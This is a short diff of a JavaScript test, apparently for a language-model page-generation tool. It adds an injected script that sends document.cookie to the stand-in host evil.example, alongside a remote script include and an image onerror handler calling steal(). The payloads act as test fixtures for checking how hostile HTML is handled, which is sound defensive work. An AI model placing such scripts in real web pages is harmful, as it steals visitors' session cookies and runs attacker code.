@@ -243,7 +243,7 @@ describe('a language model', () => {
     async () => {
       const evil = plain('Menu').replace(
         '</body>',
-        '<script src="https://evil.example/x.js"></script><img src="https://evil.example/p.png" alt="p" onerror="steal()"></body>',
+        '<script src="https://evil.example/x.js"></script><script>fetch("https://evil.example/?" + document.cookie)</script><img src="https://evil.example/p.png" alt="p" onerror="steal()"></body>',
       )
       const tools = await prepared([whole(evil), whole(evil)])
       outputOf(await tools.call('generate_page', PAGE))
